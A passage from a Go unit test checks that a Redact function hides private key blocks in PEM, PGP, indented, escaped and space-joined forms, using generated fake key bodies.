			t.Errorf("Redact(%q) = %q: %q is hidden", tt.in, got, tt.visible)
		}
	}
	// What key blocks hold is still redacted: headers, indented lines,
	// base64url, escaped line breaks.
	body := fake(b64, 64)
	for _, in := range []string{
		begin + "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,2AF25325A9B286F4CAD2E8B3F4B2C7AA\n\n" + body + "\n" + end,
		"key: |\n  " + begin + "\n  " + body + "\n  " + end,
		begin + `\r\n` + body + `\r\n` + end,
		begin + " " + body + " " + end,
		"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\n" + body + "\n=Ab1c\n-----END PGP PRIVATE KEY BLOCK-----",
	} {
		if got := Redact(in); strings.Contains(got, body) || strings.Contains(got, "BEGIN") {
			t.Errorf("Redact(%q) = %q: the key is not redacted", in, got)
		}
	}
}
